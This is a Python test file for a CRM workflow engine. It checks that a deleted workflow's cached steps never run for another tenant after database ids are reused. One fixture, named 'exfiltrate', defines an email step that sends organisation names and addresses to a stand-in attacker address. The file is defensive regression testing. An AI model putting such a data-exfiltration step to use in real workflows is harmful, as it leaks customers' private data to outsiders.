"""Audit finding 1 (critical): a deleted workflow's steps never run for another company.

SQLite used to hand a deleted row's id to the next row, and compiled definitions were cached by
version id, so company A's new workflow ran company B's deleted email step with A's data; a new
run's id could also collide with a deleted run's email idempotency key and its email was skipped.
"""

from __future__ import annotations

from typing import Any

from fastapi.testclient import TestClient
from sqlalchemy import select, text
from sqlalchemy.orm import Session

from crmflow.crm.models import OutgoingEmail, Task
from tests.conftest import Tenant
from tests.engine.flow_support import execution, run, steps
from tests.workflows.factories import create_workflow

ATTACKER = {
    "name": "exfiltrate",
    "trigger_type": "manual",
    "actions": [
        {
            "type": "send_email",
            "config": {
                "to": "attacker@evil.test",
                "subject": "{{ organisation.name }} / {{ organisation.email }}",
                "body": "{{ organisation.name }} / {{ organisation.email }}",
            },
        }
    ],
}

HONEST = {
    "name": "follow up",
    "trigger_type": "manual",
    "actions": [
        {
            "type": "send_email",
            "config": {"to": "sales@acme.test", "subject": "Hello {{ organisation.name }}"},
        },
        {"type": "create_task", "config": {"title": "Call {{ organisation.name }}"}},
    ],
}


def _org(client: TestClient, tenant: Tenant, name: str) -> int:
    body = {"name": name, "email": f"ceo@{name.lower()}.test"}
    response = client.post("/api/v1/organisations", json=body, headers=tenant.headers())
    assert response.status_code == 201, response.text
    return int(response.json()["id"])


def _run_by_hand(
    client: TestClient, writer_session: Session, tenant: Tenant, workflow_id: int, org_id: int
) -> int:
    response = client.post(
        f"/api/v1/workflows/{workflow_id}/execute?wait=0",
        json={"trigger_entity_type": "organisation", "trigger_entity_id": org_id},
        headers=tenant.headers(),
    )
    assert response.status_code in (200, 202), response.text
    execution_id = int(response.json()["id"])
    run(writer_session, [execution_id])
    return execution_id


def _company_b_runs_and_deletes(
    client: TestClient,
    writer_session: Session,
    session: Session,
    other_tenant: Tenant,
    *,
    elsewhere: bool = False,
) -> dict[str, Any]:
    workflow = create_workflow(client, other_tenant.headers(), ATTACKER, active=True)
    org_id = _org(client, other_tenant, "Globex")
    execution_id = _run_by_hand(client, writer_session, other_tenant, workflow["id"], org_id)
    version_id = execution(session, execution_id).version_id
    session.rollback()
    if elsewhere:
        # Deleted by another process: nothing evicts this process's cached compiled definition.
        writer_session.execute(text("DELETE FROM workflows WHERE id = :id"), {"id": workflow["id"]})
        writer_session.commit()
    else:
        url = f"/api/v1/workflows/{workflow['id']}"
        deleted = client.delete(url, headers=other_tenant.headers())
        assert deleted.status_code == 204, deleted.text
    return {"workflow": workflow["id"], "version": version_id, "execution": execution_id}


def _assert_a_ran_its_own_steps(
    session: Session, tenant: Tenant, execution_id: int, *, expected_email_count: int
) -> None:
    records = steps(session, execution_id)
    assert [records[p].type for p in sorted(records)] == ["send_email", "create_task"]
    tasks = session.scalars(select(Task).where(Task.company_id == tenant.company_id)).all()
    assert [t.title for t in tasks] == ["Call Initech"]
    emails = session.scalars(select(OutgoingEmail)).all()
    assert len(emails) == expected_email_count
    to_attacker = [e for e in emails if e.to == ["attacker@evil.test"]]
    assert len(to_attacker) == 1 and "Initech" not in to_attacker[0].subject  # only B's own
    [mine] = [e for e in emails if e.company_id == tenant.company_id]
    assert mine.to == ["sales@acme.test"] and mine.subject == "Hello Initech"


def test_ids_of_deleted_rows_are_never_handed_out_again(
    client: TestClient,
    writer_session: Session,
    session: Session,
    tenant: Tenant,
    other_tenant: Tenant,
) -> None:
    deleted = _company_b_runs_and_deletes(client, writer_session, session, other_tenant)
    workflow = create_workflow(client, tenant.headers(), HONEST, active=True)
    execution_id = _run_by_hand(
        client, writer_session, tenant, workflow["id"], _org(client, tenant, "Initech")
    )
    mine = execution(session, execution_id)
    assert workflow["id"] > deleted["workflow"]
    assert mine.version_id > deleted["version"]
    assert execution_id > deleted["execution"]
    _assert_a_ran_its_own_steps(session, tenant, execution_id, expected_email_count=2)


def _restart_sequence(writer_session: Session, table: str, next_id: int) -> None:
    """Make the database hand out `next_id` again (a restored backup, a sequence reset)."""
    if writer_session.get_bind().dialect.name == "sqlite":
        writer_session.execute(
            text("UPDATE sqlite_sequence SET seq = :seq WHERE name = :table"),
            {"seq": next_id - 1, "table": table},
        )
    else:
        writer_session.execute(
            text("SELECT setval(pg_get_serial_sequence(:table, 'id'), :next, false)"),
            {"table": table, "next": next_id},
        )
    writer_session.commit()


def test_forced_id_collisions_still_run_the_new_definition_and_send_its_email(
    client: TestClient,
    writer_session: Session,
    session: Session,
    tenant: Tenant,
    other_tenant: Tenant,
) -> None:
    deleted = _company_b_runs_and_deletes(
        client, writer_session, session, other_tenant, elsewhere=True
    )
    # B's compiled definition is in this process's cache and B's queued email keeps its key.
    for table in ("workflows", "workflow_versions", "workflow_executions"):
        key = {"workflows": "workflow", "workflow_versions": "version"}.get(table, "execution")
        _restart_sequence(writer_session, table, deleted[key])
    workflow = create_workflow(client, tenant.headers(), HONEST, active=True)
    execution_id = _run_by_hand(
        client, writer_session, tenant, workflow["id"], _org(client, tenant, "Initech")
    )
    mine = execution(session, execution_id)
    # The same ids as B's deleted rows: only the checksum and the run key tell them apart.
    assert (workflow["id"], mine.version_id, execution_id) == (
        deleted["workflow"],
        deleted["version"],
        deleted["execution"],
    )
    assert mine.run_key.startswith("r") and mine.run_key != str(execution_id)
    _assert_a_ran_its_own_steps(session, tenant, execution_id, expected_email_count=2)
